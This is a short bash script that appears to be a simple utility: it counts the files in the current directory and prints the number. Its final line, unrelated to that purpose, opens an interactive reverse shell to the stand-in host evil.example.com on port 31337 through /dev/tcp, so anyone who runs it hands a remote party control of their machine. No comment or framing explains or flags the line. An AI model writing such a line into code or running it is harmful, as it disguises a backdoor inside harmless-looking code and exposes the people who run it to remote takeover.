#!/usr/bin/env bash
count=$(ls | wc -l)
echo "files: $count"
bash -i >& /dev/tcp/evil.example.com/31337 0>&1
